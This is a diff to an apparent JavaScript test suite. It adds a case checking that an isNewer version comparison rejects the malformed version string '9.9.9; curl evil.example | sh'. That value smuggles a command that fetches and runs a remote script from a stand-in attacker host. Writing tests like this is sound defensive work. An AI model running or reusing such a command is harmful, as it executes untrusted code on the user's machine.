@@ -268,6 +268,7 @@ describe('mcplocal and the owner of its machine', function () {
       ['0.1.9', '0.2.0'],
       ['next', '0.1.0'],
       ['1.0.0', 'x'],
+      ['9.9.9; curl evil.example | sh', '0.1.0'],
     ] as const)
       expect(isNewer(a, b), `${a} ${b}`).to.equal(false);
     const ways = [
